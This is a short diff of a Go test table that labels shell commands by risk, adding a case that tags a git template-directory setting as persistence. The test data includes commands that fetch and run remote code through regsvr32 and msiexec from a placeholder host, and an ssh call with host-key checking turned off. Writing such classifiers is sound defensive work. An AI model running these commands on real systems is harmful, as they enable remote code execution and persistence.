@@ -31,6 +31,7 @@ func TestFacts(t *testing.T) {
 		{"regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll", "pipe-to-shell"},
 		{"msiexec /i https://x.example/agent.msi /qn", "download-exec"},
 		{"msiexec /i agent.msi /qn", ""},
+		{"git config --global init.templateDir ~/.git-templates", "persistence"},
 		{"sudo ssh -o StrictHostKeyChecking=no -o BatchMode=yes root@localhost true", ""},
 		{"ssh -o StrictHostKeyChecking=no root@203.0.113.9 uptime", "weaken"},
 		// A placeholder is a word, not two redirections.
